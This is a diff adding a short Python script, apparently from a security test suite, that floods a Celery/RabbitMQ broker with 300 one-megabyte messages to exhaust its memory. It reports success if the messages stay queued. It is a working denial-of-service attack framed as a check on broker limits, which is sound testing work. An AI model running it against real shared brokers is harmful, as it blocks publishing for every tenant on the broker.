@@ -1,0 +1,24 @@
+"""A broker that runs out of memory blocks everybody who publishes, in every virtual host."""
+
+import os
+
+from attack_kit import is_worker, ran, won
+from kombu import Connection
+
+MIB = 1024 * 1024
+MUCH = 300
+
+ran()
+if not is_worker():
+    with Connection(os.environ["CELERY_BROKER_URL"], connect_timeout=5) as link:
+        channel = link.channel()
+        channel.queue_declare("flood", durable=False, auto_delete=False)
+        body = "x" * MIB
+        try:
+            for _ in range(MUCH):
+                channel.basic_publish(channel.prepare_message(body), "", "flood")
+            held = channel.queue_declare("flood", passive=True).message_count
+            if held >= MUCH - 10:
+                won(f"{held} MiB lie in one queue")
+        except Exception as error:
+            ran(f"refused: {error!r}")
